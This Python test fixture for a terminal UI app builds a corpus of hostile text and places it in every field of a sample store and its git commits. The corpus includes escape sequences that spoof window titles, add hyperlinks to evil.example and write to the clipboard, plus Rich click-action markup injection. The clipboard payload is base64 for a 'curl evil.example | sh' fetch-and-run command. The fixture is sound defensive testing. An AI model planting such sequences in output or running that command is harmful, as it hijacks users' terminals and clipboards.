"""A corpus of hostile text (SPEC §14): terminal escape sequences and Rich/Textual markup, and a
store whose items carry it everywhere an item can carry text (title, body, frontmatter keys and
values, questions and options, a note, commit subjects and the `Atk-Actor` trailer, an invalid
dependency name, a file name).

Imported by name (`from hostile_text import ...`), like storekit."""

from __future__ import annotations

import subprocess
from pathlib import Path

from atk_tui.store import init_store

# Escape sequences: C0, C1, OSC 2 (window title), OSC 8 (hyperlink), OSC 52 (clipboard), CSI, DCS,
# 8-bit CSI/OSC/DCS, bidi controls (incl. U+061C, U+2066–2069).
ESCAPES = (
    "\x1b]2;PWNED-TITLE\x07"
    "\x1b]8;;https://evil.example/\x1b\\LINK\x1b]8;;\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"
    "\x1b[31mRED\x1b[0m\x1b[2J\x1b[H"
    "\x1bP1$qm\x1b\\"
    "\x9b31m\x9d2;c1\x9c\x90dcs\x9c\x85"
    "\x07\x08\r\x0b\x0c\x7f\x01\x1f"
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
# The same, as YAML double-quoted escapes (frontmatter cannot hold raw control characters).
ESCAPES_YAML = (
    "\\e]2;PWNED-TITLE\\a"
    "\\e]52;c;Y3VybA==\\e\\\\"
    "\\e[31mRED\\e[0m"
    "\\eP1$qm\\e\\\\"
    "\\x9b31m\\x9d2;c1\\x9c\\x85"
    "\\x07\\b"
    "\\u061c\\u200e\\u202e\\u2066\\u2069"
)
# Character references a Markdown renderer would decode into controls (after any escaping).
ENTITIES = "&#x202e;&#8238;&rlm;&lrm;&#x61c;&#x2066;&#155;&#27;]2;T&#7;&#x9b;"
# Markup that must show as text: a crash (`[/x]`, `[/]`), a live action (`@click`), a style, a link.
CLICKS = ("app.quit", "app.push", "screen.submit")
MARKUP = "[WIP] [/x] [/] [@click=app.quit]Q[/] [@click=app.push]P [@click=screen.submit]S [bold]B [link=https://x]L"
LITERALS = ("[WIP]", "[/x]", "[@click=app.quit]Q", "[bold]B", "[link=https://x]L")

TITLE = f"{MARKUP} {ESCAPES}"
# for commit subjects and trailers: `Service.history` splits git's log on U+001F/U+001E, so a
# subject holding them hides its entry (reported); everything else of the corpus is there
LINE = ESCAPES.replace("\x1f", "").replace("\x1e", "")


def _awi(name: str, *, deps: str = "") -> str:
    return f"""---
kind: awi
source: "{ESCAPES_YAML}[/x]"
target_repo: acme/webapp
{deps}"{ESCAPES_YAML}[/x]": 1
"[@click=app.quit]key": "[/]value {ESCAPES_YAML}"
"[bold]k2": "[link=https://x]v2"
---
# {TITLE}

Body {MARKUP}
{ESCAPES}
{ENTITIES} [a link](https://evil.example/) <https://evil.example/auto>
- 反映内容: {MARKUP} {ESCAPES}
- 理由: [@click=screen.submit]go
"""


def _uwi() -> str:
    return f"""---
kind: uwi
target_repo: acme/webapp
urgency: blocking
"[/x]{ESCAPES_YAML}": "[@click=app.quit]v"
---
# {TITLE}

## 背景
{MARKUP} {ESCAPES}

## 質問
### Q1. {MARKUP} {ESCAPES}

- A) {MARKUP} {ESCAPES} -- [@click=app.push]imp {ESCAPES}
- B) [/] plain -- [bold]x

推奨: A) {MARKUP}

### Q2. second [/x] {ESCAPES}

- A) [@click=screen.submit]yes
- B) no
"""


def _adopted() -> str:
    return f"""---
kind: awi
target_repo: acme/webapp
note: "[/x] {ESCAPES_YAML}"
---
# {TITLE}

Done {MARKUP} {ESCAPES}
"""


AWI = "2026-11-20-hostile-awi.md"
AWI2 = "2026-11-21-hostile-hold.md"
UWI = "2026-11-22-hostile-uwi.md"
ADOPTED = "2026-11-19-hostile-adopted.md"
BAD_NAME = "bad\x1b]2;PWNED\x07\x1b[2J\x9b31m\u202e[@click=app.quit]q[x].md"


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


def _commit(root: Path, subject: str, actor: str) -> None:
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "--no-verify", "-m", f"{subject}\n\nAtk-Actor: {actor}\n")


def make_hostile_store(base: Path) -> Path:
    """A store whose every item carries the corpus; commits with hostile subjects and trailers."""
    root, _ = init_store(base / "hostile")
    wi = root / "wi"
    (wi / "adopted" / ADOPTED).write_text(_adopted(), encoding="utf-8")
    _commit(root, f"add {MARKUP} {LINE}", f"[@click=app.quit]x {LINE}")
    (wi / "inbox" / UWI).write_text(_uwi(), encoding="utf-8")
    (wi / "inbox" / AWI).write_text(_awi(AWI, deps=f"depends_on: [{UWI}]\n"), encoding="utf-8")
    # a NUL byte makes this one defective: the defect list is shown too
    (wi / "hold" / AWI2).write_text(_awi(AWI2, deps=f'depends_on: ["{ESCAPES_YAML}[/x].md"]\n') + "nul\x00\n", encoding="utf-8")
    _commit(root, f"[/x] hostile {MARKUP} {LINE}", f"[/x] {LINE}")
    (wi / "adopted" / ADOPTED).write_text(_adopted() + "\nmore\n", encoding="utf-8")
    _commit(root, f"[/] edit {LINE}", "[/x]")
    # an invalid file name, left untracked (git would quote it): a store defect on the screen
    (wi / "inbox" / BAD_NAME).write_text(_awi(BAD_NAME), encoding="utf-8")
    return root
